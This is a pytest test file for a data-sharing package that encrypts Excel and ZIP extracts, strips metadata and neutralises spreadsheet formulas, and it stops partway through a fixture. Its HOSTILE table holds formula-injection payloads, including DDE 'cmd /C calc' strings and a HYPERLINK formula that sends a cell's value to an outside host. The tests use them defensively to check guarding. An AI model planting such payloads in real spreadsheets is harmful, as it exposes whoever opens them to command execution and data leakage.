"""What may leave is written, encrypted, reopened and checked; what fails its check is not handed out."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import pickle
import random
import re
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import replace
from itertools import cycle
from typing import Any

import msoffcrypto
import numpy as np
import pandas as pd
import pytest
import python_calamine
import pyzipper
import xlsxwriter
from msoffcrypto.exceptions import InvalidKeyError
from msoffcrypto.method.ecma376_agile import ECMA376Agile

from dtm_sharing.errors import PackageUnsafe
from dtm_sharing.model import (
    PUBLIC,
    Dispatch,
    Gap,
    Grain,
    Header,
    Level,
    Method,
    Outcome,
    Package,
    Refusal,
    Urgency,
)
from dtm_sharing.package import (
    Password,
    build,
    build_and_reopen,
    document,
    generate_password,
    recorded,
    reopen,
    workbook,
)
from dtm_sharing.package import table as tables
from dtm_sharing.package.password import word_list
from support.approvals import PATHWAY, approved, password

EXCEL, ZIP = Method.EXCEL_EMAIL, Method.DOCUMENT_EMAIL
CANARY = "CANARY-7f3a-Sita"
PASSWORD = password()

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example.org/?"&A1)',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "=cmd|' /C calc'!'A1'",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "nul": "\0=1+1",
    "wide equals": "\uff1d1+1",
    "plus cell": "+A1",
}
HARMLESS = {
    "phone": "+254 700 000 000",
    "phone with hyphens": "+977-1-4240512",
    "negative": "-5",
    "signed": "+3.2",
    "thousands": "-1,234.50",
    "scientific": "-1.5e-3",
    "percent": "-12%",
    "dash": "-",
    "dashes": "--",
}
AWKWARD = {
    "url": "https://x.example.org",
    "mailto": "mailto:x@example.org",
    "array": "{=1+1}",
    "rich text": "<r>x</r>",
    "rich text that adds a formula": '<r></r></is></c><c r="C9"><f>1+1</f></c><c r="D9"><is></r>',
    "markup": '<f>1</f> & "quoted" \' ]]>',
    "escape": "_x000D_ and x_x0041_",
    "lines": "a\r\nb\nc\rd",
    "spaces": "  two before, one after ",
    "only a space": " ",
    "controls": "\x01\x1f\x7f\x85\u2028",
    "leading zeros": "007",
    "long number": "12345678901234567890",
    "boolean": "TRUE",
    "error": "#DIV/0!",
    "date": "2026-11-22",
    "nepali": "मुख्य सडक",
    "arabic": "مأوى",
    "emoji": "⛺🏚",
    "replacement": "fishing\ufffd)",
    "apostrophe": "'quoted",
    "quotes and commas": 'a,"b";c',
}


def table(cells: Sequence[str] = ("1", "", "2")) -> pd.DataFrame:
    return pd.DataFrame({"Site ID": [f"S{n}" for n in range(len(cells))], "1.3.b.1 Type": cells}, dtype="str")


def opened_workbook(content: bytes, words: str) -> bytes:
    file, plain = msoffcrypto.OfficeFile(io.BytesIO(content)), io.BytesIO()
    file.load_key(password=words, verify_password=True)
    file.decrypt(plain, verify_integrity=True)
    return plain.getvalue()


def opened_zip(content: bytes, words: str) -> bytes:
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        archive.setpassword(words.encode())
        return bytes(archive.read("data.csv"))


def sheet_rows(plain: bytes) -> list[list[Any]]:
    return python_calamine.load_workbook(io.BytesIO(plain)).get_sheet_by_name("data").to_python()


def csv_rows(content: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline="")))


def prepared(frame: pd.DataFrame) -> tables.Table:
    return tables.prepare(frame, tuple(frame.columns), len(frame))


@pytest.fixture(autouse=True)
def few_spins(monkeypatch: pytest.MonkeyPatch) -> None:
    """Key derivation is slow on purpose; one test below takes it as it is."""
    slow = ECMA376Agile.encrypt
    monkeypatch.setattr(ECMA376Agile, "encrypt", lambda key, file: slow(key, file, spin_count=100))


# ---------------------------------------------------------------------------------------- the passwords


def test_a_password_shows_its_words_only_when_asked() -> None:
    words = "abacus zoom yo-yo"
    secret = Password(words)
    shown = [
        repr(secret),
        str(secret),
        f"{secret}",
        f"{secret!r:>5}",
        repr([secret]),
        repr({1: secret}),
    ]
    assert shown[0] == "Password(3 words)"
    assert not any(word in text for text in shown for word in words.split())
    assert secret.reveal() == words


@pytest.mark.parametrize("spread", [pickle.dumps, copy.deepcopy, copy.copy, json.dumps, vars])
def test_a_password_cannot_be_serialized(spread: Callable[[object], object]) -> None:
    with pytest.raises(TypeError) as refused:
        spread(PASSWORD)
    assert PASSWORD.reveal() not in str(refused.value)


def test_passwords_are_equal_by_their_words() -> None:
    assert Password("a b") == Password("a b")
    assert Password("a b") != Password("a c")
    assert Password("a b") != "a b"


def test_the_list_in_use_is_the_whole_eff_list() -> None:
    words = word_list()
    assert len(words) == len(set(words)) == 7776
    assert {len(word) for word in words} == set(range(3, 10))  # xkcdpass by itself drops 3 and 4 letters
    assert round(password(7).bits, 1) == 90.5
    assert round(password(6).bits, 1) == 77.5


def test_a_generated_password_is_what_was_chosen_and_nothing_else() -> None:
    given = cycle(["zoom", "abacus"])
    assert generate_password(3, lambda _: next(given)).reveal() == "zoom abacus zoom"
    assert generate_password(7, random.Random(3).choice) == generate_password(7, random.Random(3).choice)


def test_words_that_are_in_no_list_count_for_nothing() -> None:
    assert Password("correct horse battery staple these are my own words xyzzy").words == 0
    assert Password("").words == 0


# ------------------------------------------------------------------------------------------ what it makes


def test_an_excel_extract_opens_with_its_password_and_holds_the_table(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.undo()  # the real number of spins
    frame = table()
    artefact = build(approved(frame), frame, EXCEL, PASSWORD)
    assert artefact == Package(
        filename="data.xlsx",
        media_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        content=artefact.content,
        sha256=hashlib.sha256(artefact.content).hexdigest(),
        encrypted=True,
        rows=3,
        columns=("Site ID", "1.3.b.1 Type"),
    )
    assert b'spinCount="100000"' in artefact.content
    plain = opened_workbook(artefact.content, PASSWORD.reveal())
    assert sheet_rows(plain) == [["Site ID", "1.3.b.1 Type"], ["S0", "1"], ["S1", ""], ["S2", "2"]]
    with pytest.raises(InvalidKeyError):
        opened_workbook(artefact.content, PASSWORD.reveal() + " ")


def test_a_document_opens_with_its_password_and_holds_the_table() -> None:
    frame = table()
    artefact = build(approved(frame), frame, ZIP, PASSWORD)
    assert (artefact.filename, artefact.media_type, artefact.encrypted) == (
        "data.zip",
        "application/zip",
        True,
    )
    plain = opened_zip(artefact.content, PASSWORD.reveal())
    assert plain.startswith(b"\xef\xbb\xbf")  # for Excel
    assert csv_rows(plain, "utf-8-sig") == [["Site ID", "1.3.b.1 Type"], ["S0", "1"], ["S1", ""], ["S2", "2"]]
    with pytest.raises(RuntimeError):
        opened_zip(artefact.content, PASSWORD.reveal() + " ")


def test_a_document_shows_nothing_without_its_password_but_a_neutral_name() -> None:
    frame = table()
    content = build(approved(frame), frame, ZIP, PASSWORD).content
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        (entry,) = archive.infolist()
    assert (entry.filename, entry.date_time) == ("data.csv", (2000, 1, 1, 0, 0, 0))
    assert (entry.wz_aes_strength, entry.wz_aes_version, entry.CRC) == (3, 2, 0)
    assert archive.comment == entry.comment == b""


def test_the_public_gets_a_plain_csv() -> None:
    frame = table()
    artefact = build(approved(frame, PUBLIC), frame, None, None)
    assert (artefact.filename, artefact.media_type, artefact.encrypted) == ("table.csv", "text/csv", False)
    assert artefact.content == b"Site ID,1.3.b.1 Type\r\nS0,1\r\nS1,\r\nS2,2\r\n"


@pytest.mark.parametrize("method", [EXCEL, ZIP])
def test_no_cell_can_be_found_in_an_encrypted_artefact(method: Method) -> None:
    frame = table([CANARY] * 50)
    artefact = build(approved(frame), frame, method, PASSWORD)
    for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
        assert CANARY.encode(encoding) not in artefact.content
        assert PASSWORD.reveal().encode(encoding) not in artefact.content
    assert b"S0" + b"," not in artefact.content
    assert CANARY not in repr(artefact)


def test_the_same_table_gives_the_same_plain_bytes() -> None:
    assert workbook.write(prepared(table())) == workbook.write(prepared(table()))
    first, second = (build(approved(table(), PUBLIC), table(), None, None) for _ in range(2))
    assert first.sha256 == second.sha256


@pytest.mark.parametrize("method", [EXCEL, ZIP, None])
def test_it_reopens_with_every_cell_as_text(method: Method | None) -> None:
    frame = table([*AWKWARD.values(), "", *HARMLESS.values(), ""])
    secret = None if method is None else PASSWORD
    approval = approved(frame, PUBLIC if method is None else PATHWAY)
    artefact, seen = build_and_reopen(approval, frame, method, secret)
    again = reopen(artefact, secret)
    for back in (seen, again):
        pd.testing.assert_frame_equal(back, frame)


def test_a_table_longer_than_a_block_keeps_its_order() -> None:
    frame = table([str(n) for n in range(2 * tables.BLOCK + 1)])
    for method in (EXCEL, ZIP):
        artefact = build(approved(frame), frame, method, PASSWORD)
        pd.testing.assert_frame_equal(reopen(artefact, PASSWORD), frame)


@pytest.mark.parametrize("method", [EXCEL, ZIP])
def test_blank_rows_and_columns_stay(method: Method) -> None:
    frame = pd.DataFrame({"a": ["", "", ""], "b": ["", "x", ""], "c": ["", "", ""]}, dtype="str")
    artefact, seen = build_and_reopen(approved(frame), frame, method, PASSWORD)
    assert artefact.rows == 3
    pd.testing.assert_frame_equal(seen, frame)


def test_the_index_and_missing_cells_do_not_matter() -> None:
    frame = pd.DataFrame({"a": ["x", None, float("nan")]}, index=[7, 7, 1], dtype=object)
    seen = build_and_reopen(approved(frame), frame, ZIP, PASSWORD)[1]
    assert seen["a"].tolist() == ["x", "", ""]


# --------------------------------------------------------------------------------- what could run in it


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe_in_csv(payload: str) -> None:
    frame = table(["a", payload])
    published = build(approved(frame, PUBLIC), frame, None, None)
    assert csv_rows(published.content)[2] == ["S1", f"'{payload}"]
    assert published.guarded == 1
    sent = build(approved(frame), frame, ZIP, PASSWORD)
    assert csv_rows(opened_zip(sent.content, PASSWORD.reveal()), "utf-8-sig")[2] == ["S1", f"'{payload}"]
    assert sent.guarded == 1


@pytest.mark.parametrize("cell", [*HARMLESS.values(), *AWKWARD.values()], ids=[*HARMLESS, *AWKWARD])
def test_numbers_telephones_and_plain_text_get_none(cell: str) -> None:
    frame = table([cell])
    artefact = build(approved(frame, PUBLIC), frame, None, None)
    assert csv_rows(artefact.content)[1] == ["S0", cell]
    assert artefact.guarded == 0


def test_numbers_in_columns_of_numbers_are_not_guarded() -> None:
    frame = pd.DataFrame({"n": [-5, 3], "f": [-0.5, float("nan")]})
    artefact = build(approved(frame, PUBLIC), frame, None, None)
    assert artefact.content == b"n,f\r\n-5,-0.5\r\n3,\r\n"
    assert artefact.guarded == 0


def test_a_column_name_that_would_run_is_refused_in_csv() -> None:
    frame = table().rename(columns={"Site ID": "=1+1"})
    with pytest.raises(PackageUnsafe, match="column name begins like a formula"):
        build(approved(frame, PUBLIC), frame, None, None)
    assert build(approved(frame), frame, EXCEL, PASSWORD).columns[0] == "=1+1"  # text in a workbook


@pytest.mark.parametrize("cell", [*HOSTILE.values(), *AWKWARD.values()], ids=[*HOSTILE, *AWKWARD])
def test_in_a_workbook_every_text_is_text_as_it_stands(cell: str) -> None:
    plain = workbook.write(prepared(table([cell, "last"])))
    assert sheet_rows(plain)[1:] == [["S0", cell], ["S1", "last"]]
    with zipfile.ZipFile(io.BytesIO(plain)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert re.findall(rb"<(?:f|hyperlinks?)[ />]", sheet) == []
    assert list(workbook.leaks(io.BytesIO(plain))) == []


def test_a_workbook_names_nobody_and_no_time() -> None:
    with zipfile.ZipFile(io.BytesIO(workbook.write(prepared(table())))) as book:
        core = book.read("docProps/core.xml").decode()
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert re.findall(r"<(?:dc:creator|cp:lastModifiedBy)>([^<]*)<", core) == ["", ""]
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2000-01-01T00:00:00Z"}


# ------------------------------------------------------------------------------------------- the writer


def test_our_sheet_is_byte_for_byte_what_xlsxwriter_writes() -> None:
    cells = [each for each in [*AWKWARD.values(), *HOSTILE.values()] if not each.startswith("<r>")] * 60
    frame = table([*cells, ""])
    frame["n"] = np.linspace(-1e9, 1e9, len(frame))
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True})
    book.set_properties({"created": workbook.CREATED})
    sheet = book.add_worksheet("data")
    for row, values in enumerate([tuple(frame.columns), *prepared(frame).rows()]):
        for column, value in enumerate(values):
            if value != "":
                write = sheet.write_string if isinstance(value, str) else sheet.write_number
                assert write(row, column, value) == 0
    book.close()
    ours, theirs = zipfile.ZipFile(io.BytesIO(workbook.write(prepared(frame)))), zipfile.ZipFile(out)
    assert ours.namelist() == theirs.namelist()
    assert {name: ours.read(name) for name in ours.namelist()} == {
        n: theirs.read(n) for n in theirs.namelist()
    }


def test_no_file_is_written_anywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(tempfile, "mkstemp", full)
    monkeypatch.setattr(tempfile, "NamedTemporaryFile", full)
    monkeypatch.setattr("builtins.open", full)
    frame = table()
    for method in (EXCEL, ZIP):
        assert build(approved(frame), frame, method, PASSWORD).rows == 3


def test_a_cell_that_the_writer_cannot_place_is_refused_not_lost() -> None:
    frame = pd.DataFrame([["x"] * 3], columns=list("abc"))
    cut = replace(prepared(frame), columns=("a", "b" * 40_000, "c"))
    with pytest.raises(PackageUnsafe, match="Row 0, column 2: the cell does not fit"):
        workbook.write(cut)


def test_columns_of_numbers_are_numbers_and_text_stays_text() -> None:
    frame = pd.DataFrame(
        {
            "whole": [1, -2],
            "real": [0.1 + 0.2, np.nan],
            "nullable": pd.array([3, None], dtype="Int64"),
            "identifier": [2**53 + 1, 7],
            "text": ["3", "1e5"],
        }
    )
    seen = build_and_reopen(approved(frame), frame, EXCEL, PASSWORD)[1]
    assert sheet_rows(workbook.write(prepared(frame)))[1:] == [
        [1.0, 0.3, 3.0, "9007199254740993", "3"],
        [-2.0, "", "", 7.0, "1e5"],
    ]
    assert seen.to_numpy().tolist() == [
        ["1", "0.3", "3", "9007199254740993", "3"],
        ["-2", "", "", "7", "1e5"],
    ]
    document_ = build_and_reopen(approved(frame), frame, ZIP, PASSWORD)[1]
    pd.testing.assert_frame_equal(document_, seen)  # every form of a table says the same


# -------------------------------------------------------------------------------------- what it refuses


BAD_FRAMES: dict[str, Callable[[pd.DataFrame], pd.DataFrame]] = {
    "a column more": lambda f: f.assign(extra="x"),
    "a column less": lambda f: f.iloc[:, :1],
    "another order": lambda f: f.iloc[:, ::-1],
    "another name": lambda f: f.rename(columns={"Site ID": "Site"}),
    "a column twice": lambda f: f.iloc[:, [0, 0]],
    "a name that is no text": lambda f: f.set_axis([0, 1], axis=1),
    "a row more": lambda f: pd.concat([f, f.iloc[:1]]),
    "a row less": lambda f: f.iloc[1:],
    "no rows": lambda f: f.iloc[:0],
    "no columns": lambda f: f.iloc[:, :0],
    "booleans": lambda f: f.assign(**{"Site ID": [True, False, True]}),
    "dates": lambda f: f.assign(**{"Site ID": pd.to_datetime(["2026-01-01"] * 3)}),
    "text and numbers mixed": lambda f: f.astype(object).assign(**{"Site ID": ["a", 1, None]}),
    "lists": lambda f: f.astype(object).assign(**{"Site ID": [[CANARY], [], []]}),
    "bytes": lambda f: f.astype(object).assign(**{"Site ID": [CANARY.encode()] * 3}),
    "categories": lambda f: f.astype("category"),
    "complex numbers": lambda f: f.assign(**{"Site ID": [1j, 2j, 3j]}),
    "an infinite number": lambda f: f.assign(**{"Site ID": [1.0, np.inf, 2.0]}),
    "half a character": lambda f: f.assign(
        **{"Site ID": pd.Series(["a", f"{CANARY}\ud800", "b"], dtype=object)}
    ),
}


@pytest.mark.parametrize("method", [EXCEL, ZIP, None])
@pytest.mark.parametrize("spoil", BAD_FRAMES.values(), ids=BAD_FRAMES)
def test_another_table_than_the_approved_one_is_refused(
    spoil: Callable[[pd.DataFrame], pd.DataFrame], method: Method | None
) -> None:
    frame = table([CANARY, "", "2"])
    approval = approved(frame, PUBLIC if method is None else PATHWAY)
    with pytest.raises(PackageUnsafe) as refused:
        build(approval, spoil(frame), method, None if method is None else PASSWORD)
    assert CANARY not in shown(refused.value)


def shown(error: BaseException | None) -> str:
    """Everything that a traceback of this error would print of messages."""
    texts = []
    while error is not None:
        texts.append(f"{error} {error!r}")
        error = error.__cause__ or (None if error.__suppress_context__ else error.__context__)
    return " ".join(texts)


@pytest.mark.parametrize("empty", [table().iloc[:0], table().iloc[:, :0]], ids=["rows", "columns"])
def test_an_empty_table_is_refused_even_if_approved(empty: pd.DataFrame) -> None:
    with pytest.raises(PackageUnsafe, match="nothing to package"):
        build(approved(empty), empty, EXCEL, PASSWORD)


def test_two_columns_of_one_name_are_refused_even_if_approved() -> None:
    frame = table().iloc[:, [0, 0]]
    with pytest.raises(PackageUnsafe, match="same name"):
        build(approved(frame), frame, EXCEL, PASSWORD)


@pytest.mark.parametrize(
    ("cell", "fits"),
    [
        ("x" * 32_767, True),
        ("x" * 32_768, False),
        ("⛺" * 32_767, True),
        ("🏚" * 16_383, True),
        ("🏚" * 16_384, False),
    ],
)
def test_text_that_a_spreadsheet_would_cut_is_refused(cell: str, fits: bool) -> None:
    frame = table(["a", cell])
    if fits:
        assert build_and_reopen(approved(frame), frame, EXCEL, PASSWORD)[1].iloc[1, 1] == cell
        return
    with pytest.raises(PackageUnsafe, match="Row 2, column 2: the text is longer than the 32,767 characters"):
        build(approved(frame), frame, EXCEL, PASSWORD)


@pytest.mark.parametrize(("rows", "columns"), [(2**20, 2), (1, 2**14 + 1)])
def test_a_table_larger_than_a_worksheet_is_refused_before_writing(rows: int, columns: int) -> None:
    large = tables.Table(tuple(map(str, range(columns))), rows, ())
    with pytest.raises(PackageUnsafe, match="does not fit into a worksheet"):
        workbook.write(large)


def test_a_worksheet_can_be_filled_to_its_last_column() -> None:
    full = tables.Table(tuple(map(str, range(2**14))), 1, (pd.Series(["x"]),) * 2**14)
    assert sheet_rows(workbook.write(full))[1] == ["x"] * 2**14


# The last one XlsxWriter escapes wrongly, as its pattern takes an underscore once only.
@pytest.mark.parametrize("cell", ["\ufffe", "a\uffff", "_x005F_x0041_"])
def test_a_cell_that_would_not_read_back_is_refused_by_place(cell: str) -> None:
    frame = table(["a", "b", f"{CANARY}{cell}"])
    with pytest.raises(PackageUnsafe, match="reads back otherwise at row 3, column 2") as refused:
        build(approved(frame), frame, EXCEL, PASSWORD)
    assert CANARY not in shown(refused.value)


@pytest.mark.parametrize("method", [Method.PORTAL, Method.TELEPHONE])
def test_a_method_without_a_channel_packages_nothing(method: Method) -> None:
    with pytest.raises(PackageUnsafe, match=f"no channel for {method}"):
        build(approved(table()), table(), method, PASSWORD)


@pytest.mark.parametrize(
    ("method", "secret", "sentence"),
    [
        (None, None, "no channel for no method"),
        (None, PASSWORD, "no channel for no method"),
        (EXCEL, None, "there is no unencrypted path"),
        (ZIP, None, "there is no unencrypted path"),
        (EXCEL, password(5), "at least 6 words"),
        (ZIP, password(6), "at least 7 words"),
        (ZIP, Password("my own seven words are not good enough"), "at least 7 words"),
        (EXCEL, Password(""), "at least 6 words"),
    ],
)
def test_there_is_no_unencrypted_or_weak_path(
    method: Method | None, secret: Password | None, sentence: str
) -> None:
    with pytest.raises(PackageUnsafe, match=sentence) as refused:
        build(approved(table()), table(), method, secret)
    assert secret is None or not secret.reveal() or secret.reveal() not in str(refused.value)


def test_six_words_are_enough_for_a_workbook() -> None:
    assert build(approved(table()), table(), EXCEL, password(6)).encrypted


@pytest.mark.parametrize(("method", "secret"), [(EXCEL, None), (None, PASSWORD), (EXCEL, PASSWORD)])
def test_what_is_public_has_no_method_and_no_password(method: Method | None, secret: Password | None) -> None:
    with pytest.raises(PackageUnsafe, match="no method and no password"):
        build(approved(table(), PUBLIC), table(), method, secret)


def test_a_decision_that_does_not_allow_packages_nothing() -> None:
    gap, refusal = Gap("no-level", "…"), Refusal(Header(1, "a", None, "a"), Level.SECRET, "…")
    for spoilt in (
        {"outcome": Outcome.DENY},
        {"outcome": Outcome.UNDECIDED},
        {"gaps": (gap,)},
        {"refused": (refusal,)},
    ):
        with pytest.raises(PackageUnsafe, match="does not allow"):
            build(approved(table(), **spoilt), table(), EXCEL, PASSWORD)


@pytest.mark.parametrize("level", [Level.SECRET, None])
def test_a_secret_or_undecided_column_is_packaged_for_nobody(level: Level | None) -> None:
    for audience, method, secret in ((PATHWAY, EXCEL, PASSWORD), (PUBLIC, None, None)):
        approval = approved(table(), audience, levels={"Site ID": level})
        with pytest.raises(PackageUnsafe, match="Secret or undecided"):
            build(approval, table(), method, secret)


def test_a_confidential_column_is_not_published() -> None:
    with pytest.raises(PackageUnsafe, match="not Public"):
        build(approved(table(), PUBLIC, levels={"Site ID": Level.CONFIDENTIAL}), table(), None, None)


# ------------------------------------------------------------------------- the check that can say no


def plain_workbook(spoil: Callable[[Any, Any], object], rows: Sequence[Sequence[Any]] = ()) -> bytes:
    """A workbook of ``table()`` by XlsxWriter's own hand, with something done to it."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True, "strings_to_formulas": False})
    book.set_properties({"created": workbook.CREATED})
    sheet = book.add_worksheet("data")
    spoil(book, sheet)
    for row, cells in enumerate(rows or [["Site ID", "1.3.b.1 Type"], ["S0", "1"], ["S1", ""], ["S2", "2"]]):
        for column, cell in enumerate(cells):
            if cell != "":
                sheet.write(row, column, cell)
    book.close()
    return out.getvalue()


HEADER = ["Site ID", "1.3.b.1 Type"]
SPOILT_WORKBOOKS: dict[str, tuple[Callable[[Any, Any], object], list[list[Any]]]] = {
    "a second sheet": (lambda book, _: book.add_worksheet("more"), []),
    "a hidden sheet": (lambda book, _: book.add_worksheet("more").hide(), []),
    "an author": (lambda book, _: book.set_properties({"author": CANARY}), []),
    "a company": (lambda book, _: book.set_properties({"company": CANARY}), []),
    "a manager": (lambda book, _: book.set_properties({"manager": CANARY}), []),
    "a property": (lambda book, _: book.set_custom_property("project", CANARY), []),
    "a defined name": (lambda book, _: book.define_name("x", "=data!$A$1"), []),
    "a formula": (lambda _, sheet: sheet.write_formula(0, 5, "=1+1"), []),
    "a formula far below": (lambda _, sheet: None, [HEADER, ["S0", "1"]]),
    "a link": (lambda _, sheet: sheet.write_url(0, 5, "https://x.example.org"), []),
    "a link inside": (lambda _, sheet: sheet.write_url(0, 5, "internal:data!A1"), []),
    "a comment": (lambda _, sheet: sheet.write_comment(0, 0, CANARY), []),
    "a hidden column": (lambda _, sheet: sheet.set_column(1, 1, None, None, {"hidden": True}), []),
    "a hidden row": (lambda _, sheet: sheet.set_row(1, None, None, {"hidden": True}), []),
    "a check of input": (
        lambda _, sheet: sheet.data_validation("A1", {"validate": "list", "source": [CANARY]}),
        [],
    ),
    "a text box": (lambda _, sheet: sheet.insert_textbox(1, 1, CANARY), []),
    "a heading for print": (lambda _, sheet: sheet.set_header(f"&C{CANARY}"), []),
    "a filter": (lambda _, sheet: sheet.autofilter(0, 0, 3, 1), []),
    "merged cells": (lambda _, sheet: sheet.merge_range(5, 0, 5, 1, ""), []),
    "another cell": (lambda *_: None, [HEADER, ["S0", "1"], ["S1", ""], ["S2", CANARY]]),
    "a number for a text": (lambda *_: None, [HEADER, ["S0", 1], ["S1", ""], ["S2", "2"]]),
    "a row less": (lambda *_: None, [HEADER, ["S0", "1"], ["S1", ""]]),
    "a row more": (lambda *_: None, [HEADER, ["S0", "1"], ["S1", ""], ["S2", "2"], ["S3", CANARY]]),
    "a column more": (lambda *_: None, [[*HEADER, "x"], ["S0", "1"], ["S1", ""], ["S2", "2", CANARY]]),
    "columns swapped": (lambda *_: None, [HEADER[::-1], ["1", "S0"], ["", "S1"], ["2", "S2"]]),
    "rows swapped": (lambda *_: None, [HEADER, ["S1", ""], ["S0", "1"], ["S2", "2"]]),
    "another header": (lambda *_: None, [["Site ID", "Type"], ["S0", "1"], ["S1", ""], ["S2", "2"]]),
    "no header": (lambda *_: None, [["S0", "1"], ["S1", ""], ["S2", "2"]]),
    "another name of the sheet": (lambda _, sheet: setattr(sheet, "name", CANARY), []),
}


def test_a_workbook_by_xlsxwriters_own_hand_passes_the_check(monkeypatch: pytest.MonkeyPatch) -> None:
    """So that the refusals below are for what was done to it."""
    monkeypatch.setattr(workbook, "write", lambda _: plain_workbook(lambda *_: None))
    assert build(approved(table()), table(), EXCEL, PASSWORD).rows == 3


@pytest.mark.parametrize(("spoil", "rows"), SPOILT_WORKBOOKS.values(), ids=SPOILT_WORKBOOKS)
def test_a_workbook_with_anything_else_in_it_does_not_leave(
    spoil: Callable[[Any, Any], object], rows: list[list[Any]], monkeypatch: pytest.MonkeyPatch
) -> None:
    content = plain_workbook(spoil, rows)
    monkeypatch.setattr(workbook, "write", lambda _: content)
    with pytest.raises(PackageUnsafe) as refused:
        build(approved(table()), table(), EXCEL, PASSWORD)
    assert CANARY not in shown(refused.value)


def test_a_formula_far_down_a_large_sheet_is_found() -> None:
    rows = [[f"{n:06d}", "x" * 500] for n in range(6000)]
    for at in (0, 2900, 5999):
        place = f"A{at + 1}"
        plain = plain_workbook(lambda *_: None, rows)
        assert list(workbook.leaks(io.BytesIO(plain))) == []
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(out, "w") as new:
            for name in old.namelist():
                cell = f'<c r="{place}" t="inlineStr">'.encode()
                part = old.read(name).replace(cell, f'<c r="{place}"><f>1+1</f><v>2</v></c>'.encode() + cell)
                new.writestr(name, part)
        assert "formulas" in next(workbook.leaks(out), "")


@pytest.mark.parametrize("split", range(4))
def test_a_formula_is_found_where_two_blocks_of_reading_meet(split: int) -> None:
    formula, block = b"<f>1+1</f>", 1 << 20
    plain = plain_workbook(lambda *_: None, [["x"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                head, cell, tail = part.partition(b"<t>x</t></is></c>")
                padding = b"x" * (block - split - len(head) - len(cell) - len(b'<c r="B1">'))
                part = head + cell.replace(b"x", b"x" + padding, 1) + b'<c r="B1">' + formula + b"</c>" + tail
                assert part.index(formula) == block - split
            new.writestr(name, part)
    assert "formulas" in next(workbook.leaks(out), "")


def test_a_wrong_integrity_value_is_noticed_though_all_decrypts(monkeypatch: pytest.MonkeyPatch) -> None:
    seal = workbook.seal

    def altered(rows: tables.Table, secret: Password) -> bytes:
        content = seal(rows, secret)
        start = content.index(b'encryptedHmacValue="') + len(b'encryptedHmacValue="')
        other = b"A" if content[start : start + 1] != b"A" else b"B"
        return content[:start] + other + content[start + 1 :]

    monkeypatch.setattr(workbook, "seal", altered)
    with pytest.raises(PackageUnsafe, match="does not open with its password"):
        build(approved(table()), table(), EXCEL, PASSWORD)


def test_a_workbook_that_was_not_encrypted_does_not_leave(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "seal", lambda table, _: workbook.write(table))
    with pytest.raises(PackageUnsafe, match="not encrypted"):
        build(approved(table()), table(), EXCEL, PASSWORD)


@pytest.mark.parametrize("step", [workbook, document], ids=["workbook", "document"])
def test_an_artefact_that_opens_with_another_password_does_not_leave(
    step: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    seal, method = step.seal, EXCEL if step is workbook else ZIP
    monkeypatch.setattr(step, "seal", lambda table, secret: seal(table, Password(secret.reveal() + "x")))
    with pytest.raises(PackageUnsafe, match="opens with a wrong password"):
        build(approved(table()), table(), method, PASSWORD)
    monkeypatch.setattr(step, "seal", lambda table, _: seal(table, password()))
    with pytest.raises(PackageUnsafe, match="does not open with its password"):
        build(approved(table()), table(), method, PASSWORD)


@pytest.mark.parametrize("step", [workbook, document], ids=["workbook", "document"])
@pytest.mark.parametrize("where", [0.3, 0.5, 0.7])
def test_a_flipped_bit_is_noticed(step: Any, where: float, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = table([f"{random.Random(n).random()}" for n in range(3000)])
    seal, method = step.seal, EXCEL if step is workbook else ZIP

    def flipped(rows: tables.Table, secret: Password) -> bytes:
        content = bytearray(seal(rows, secret))
        content[int(len(content) * where)] ^= 1
        return bytes(content)

    monkeypatch.setattr(step, "seal", flipped)
    with pytest.raises(PackageUnsafe):
        build(approved(frame), frame, method, PASSWORD)


def zipped(content: bytes, name: str = "data.csv", **changes: Any) -> bytes:
    out = io.BytesIO()
    settings = {"encryption": pyzipper.WZ_AES, **changes}
    with pyzipper.AESZipFile(
        out, "w", **{k: v for k, v in settings.items() if k not in {"comment", "more"}}
    ) as made:
        if settings["encryption"]:
            made.setpassword(PASSWORD.reveal().encode())
        made.comment = settings.get("comment", b"")
        for each in (name, *settings.get("more", ())):
            made.writestr(pyzipper.zipfile_aes.AESZipInfo(each, (2000, 1, 1, 0, 0, 0)), content)
    return out.getvalue()


GOOD_CSV = b"\xef\xbb\xbfSite ID,1.3.b.1 Type\r\nS0,1\r\nS1,\r\nS2,2\r\n"
SPOILT_ZIPS = {
    "no encryption": zipped(GOOD_CSV, encryption=None),
    "AES-128": zipped(GOOD_CSV, encryption_kwargs={"nbits": 128}),
    "a checksum of the plain text": zipped(GOOD_CSV, encryption_kwargs={"force_wz_aes_version": 1}),
    "a name that tells": zipped(GOOD_CSV, f"{CANARY}.csv"),
    "a second entry": zipped(GOOD_CSV, more=["more.csv"]),
